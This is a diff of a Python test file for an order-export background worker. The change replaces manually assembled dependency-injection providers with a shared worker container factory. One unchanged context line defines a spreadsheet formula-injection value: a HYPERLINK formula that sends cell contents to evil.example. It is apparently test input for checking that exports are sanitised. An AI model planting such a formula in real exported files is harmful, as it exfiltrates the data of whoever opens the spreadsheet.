@@ -15,18 +15,13 @@ from typing import Any, Final
 import asyncpg
 import httpx
 import pytest
-from dishka import AsyncContainer, Scope, make_async_container
+from dishka import AsyncContainer, Scope
 
-from app.bootstrap.di.catalog import CatalogProviderSet
-from app.bootstrap.di.identity import IdentityProviderSet
-from app.bootstrap.di.notifications import NotificationsProviderSet
-from app.bootstrap.di.operations import OperationsProviderSet
-from app.bootstrap.di.ordering import OrderingProviderSet
-from app.bootstrap.di.platform import PlatformProvider
 from app.bootstrap.mapping import map_all
 from app.bootstrap.settings import ExportSettings, Settings
 from app.bootstrap.telemetry import Tracing
 from app.bootstrap.worker.platform_tasks import _purge
+from app.bootstrap.worker.runtime import worker_container as make_worker_container
 from app.ordering.application.commands.fail_order_export import (
     FailOrderExport,
     FailOrderExportRequest,
@@ -77,16 +72,7 @@ INJECTED_REASON: Final = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")
 async def worker_container(settings: Settings) -> AsyncIterator[AsyncContainer]:
     """The worker's container (see WorkerRuntime.start), on the test's event loop."""
     map_all()
-    container = make_async_container(
-        PlatformProvider(),
-        IdentityProviderSet(),
-        CatalogProviderSet(),
-        OrderingProviderSet(),
-        NotificationsProviderSet(),
-        OperationsProviderSet(),
-        context={Settings: settings, Tracing: Tracing(None)},
-        skip_validation=True,  # no HTTP request in a worker's scope
-    )
+    container = make_worker_container(settings, Tracing(None))
     try:
         yield container
     finally:
